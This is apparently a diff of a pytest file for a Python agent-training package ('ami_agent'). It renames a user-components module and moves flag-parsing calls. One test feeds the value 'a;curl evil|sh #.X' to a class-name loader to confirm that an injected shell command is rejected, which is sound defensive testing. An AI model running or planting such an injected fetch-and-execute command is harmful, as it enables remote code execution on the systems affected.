@@ -13,14 +13,15 @@ import torch
 
 import ami_agent as ami
 import ami_agent.cli.main as cli
-from ami_agent import components, config_io, custom
+from ami_agent import components, config_io, user_components
 from ami_agent.ablation import variants
-from ami_agent.cli.args import TrainFlags
+from ami_agent.cli import config_flags
+from ami_agent.cli.command_flags import TrainFlags
 from ami_agent.cli.main import main
 from ami_agent.config import build
-from ami_agent.custom import class_name
 from ami_agent.storage import run_dir
 from ami_agent.training.actor_critic import choice_loss
+from ami_agent.user_components import class_name
 from modules.actor.adaptive import AdaptiveActorConfig
 from modules.configurator import TaskSpec
 from modules.types import ConfigError
@@ -57,8 +58,8 @@ def files(tmp_path, monkeypatch):
     for name, text in FILES.items():
         (tmp_path / name).write_text(text)
     monkeypatch.chdir(tmp_path)
-    monkeypatch.setattr(custom, "_named", {})
-    monkeypatch.setattr(custom, "_known", {})
+    monkeypatch.setattr(user_components, "_named", {})
+    monkeypatch.setattr(user_components, "_known", {})
     monkeypatch.setattr(sys, "path", [*sys.path])
     yield tmp_path
     for name in [name for name in sys.modules if name.startswith("_ami_my_")]:
@@ -92,8 +93,11 @@ def test_the_commands_of_the_documentation_work_unchanged(file, files):
 
 
 def test_the_python_of_the_documentation_trains_an_agent_and_loads_it(files, monkeypatch):
-    custom.allow_components(["my_encoder.py"])
-    names = {"ami": ami, "MyEncoderConfig": custom.component_class("my_encoder.MyEncoderConfig")}
+    user_components.allow_components(["my_encoder.py"])
+    names = {
+        "ami": ami,
+        "MyEncoderConfig": user_components.component_class("my_encoder.MyEncoderConfig"),
+    }
     paths = {f"stages.{n.replace('-', '_')}": value for n, value in (SHORT | DISTILL).items()}
     train = ami.train
     monkeypatch.setattr(
@@ -109,8 +113,8 @@ def test_a_run_folder_imports_no_file(files, capsys):
     folder = files / "runs" / "two-rooms" / "0"
     assert '"my_encoder.MyEncoderConfig"' in (folder / "config.json").read_text()
     (files / "my_encoder.py").write_text("raise SystemExit('imported')")
-    custom._named.clear()
-    custom._known.clear()
+    user_components._named.clear()
+    user_components._known.clear()
     message = error_line(capsys, "eval", folder, "--episodes", 1)
     assert "config.json needs code that is not imported unless you name it" in message
     assert "my_encoder.MyEncoderConfig" in message
@@ -298,7 +302,7 @@ def test_one_planner_serves_plan_and_auto_and_its_weights_are_the_agents(tiny):
 
 
 def test_settings_of_the_users_own_are_read_back_from_json(tiny, monkeypatch):
-    monkeypatch.setattr(custom, "_named", {__name__: __name__})
+    monkeypatch.setattr(user_components, "_named", {__name__: __name__})
     config = ami.override(
         tiny, {"perception": NarrowConfig(), "cost.intrinsic": {"odd": BrokenConfig(weight=2.0)}}
     )
@@ -329,7 +333,7 @@ def test_a_further_cost_counts_in_every_plan_with_its_weight(tiny):
 
 
 def test_a_component_is_chosen_by_the_name_of_its_class():
-    config, left = config_io.choose_components(
+    config, left = config_flags.choose_components(
         ami.recipes.two_rooms(), ["--planner", "cem", "--planner.horizon", "5", "--seed=3"]
     )
     assert config.actor.planner == ami.components.CEMConfig()
@@ -337,14 +341,14 @@ def test_a_component_is_chosen_by_the_name_of_its_class():
     with pytest.raises(
         ConfigError, match=r"--planner Oracle: actor\.planner may be GradientPlanner"
     ):
-        config_io.choose_components(config, ["--planner", "Oracle"])
+        config_flags.choose_components(config, ["--planner", "Oracle"])
     swapped = variants(config, (), ("dynamics=FourierDynamics",))["dynamics=FourierDynamics"]
     assert isinstance(swapped.world_model.dynamics, ami.components.FourierDynamicsConfig)
 
 
 def test_a_component_that_is_left_out_is_none_and_has_no_flags():
     flags = ["--goal-critic", "none", "--world-model.latent", "GaussianLatent"]
-    config, left = config_io.choose_components(ami.recipes.two_rooms(), flags)
+    config, left = config_flags.choose_components(ami.recipes.two_rooms(), flags)
     assert config.cost.goal_critic is None
     assert config.world_model.latent == ami.components.GaussianLatentConfig()
     assert left == []
@@ -352,9 +356,9 @@ def test_a_component_that_is_left_out_is_none_and_has_no_flags():
     assert data["cost"]["goal_critic"] is None
     assert config_io.from_json(data, "here") == config
     with pytest.raises(ConfigError, match=r"--goal-critic\.distance\.hidden"):
-        config_io.parse(TrainFlags(config=config), ["--goal-critic.distance.hidden", "3"], "ami")
+        config_flags.parse(TrainFlags(config=config), ["--goal-critic.distance.hidden", "3"], "ami")
     with pytest.raises(ConfigError, match="planner may be GradientPlanner"):
-        config_io.choose_components(config, ["--planner", "none"])
+        config_flags.choose_components(config, ["--planner", "none"])
     data["world_model"]["dynamics"] = None
     with pytest.raises(ConfigError, match=r"world_model\.dynamics: None is given"):
         config_io.from_json(data, "here")
@@ -410,20 +414,20 @@ def test_an_old_flag_names_the_new_one(old, new, capsys):
 def test_a_class_that_a_named_file_only_imports_is_refused(files):
     """A run folder may not reach through a file of the user's to what that file imports."""
     (files / "mine.py").write_text("from ami_agent import EnvConfig\n")
-    custom.allow_components(["mine.py"])
+    user_components.allow_components(["mine.py"])
     with pytest.raises(ConfigError, match="mine defines no class 'EnvConfig'"):
-        custom.component_class("mine.EnvConfig")
+        user_components.component_class("mine.EnvConfig")
     with pytest.raises(ConfigError, match=r"is no class, MODULE\.CLASS"):
-        custom.component_class("a;curl evil|sh #.X")
+        user_components.component_class("a;curl evil|sh #.X")
 
 
 def test_settings_must_be_frozen_and_name_what_is_needed(files, tiny):
     (files / "soft.py").write_text(
         "from dataclasses import dataclass\n@dataclass\nclass Soft:\n    def build(self): ...\n"
     )
-    custom.allow_components(["soft.py"])
+    user_components.allow_components(["soft.py"])
     with pytest.raises(ConfigError, match=r"soft\.Soft is no frozen dataclass"):
-        custom.component_class("soft.Soft")
+        user_components.component_class("soft.Soft")
     with closing(tiny.env.build(1)) as env, pytest.raises(ConfigError, match="has no horizon"):
         build(ami.override(tiny, {"actor.planner": NoBuildConfig()}), env.spec)
 
@@ -435,12 +439,12 @@ def test_the_weight_of_a_further_cost_is_a_flag_and_a_class_is_named_once(files)
         "my_cost.SmoothnessConfig",
         "--intrinsic.smoothness.weight=2",
     ]
-    custom.allow_components(["my_cost.py"])
-    config, left = config_io.choose_components(base, flags)
+    user_components.allow_components(["my_cost.py"])
+    config, left = config_flags.choose_components(base, flags)
     assert config.cost.intrinsic["smoothness"].weight == 2.0
     assert left == []
     with pytest.raises(ConfigError, match="--planner is given 2 times"):
-        config_io.choose_components(base, ["--planner", "CEM", "--planner", "MPPI"])
+        config_flags.choose_components(base, ["--planner", "CEM", "--planner", "MPPI"])
 
 
 def test_override_keeps_values_of_none_and_refuses_a_part_beside_its_whole():
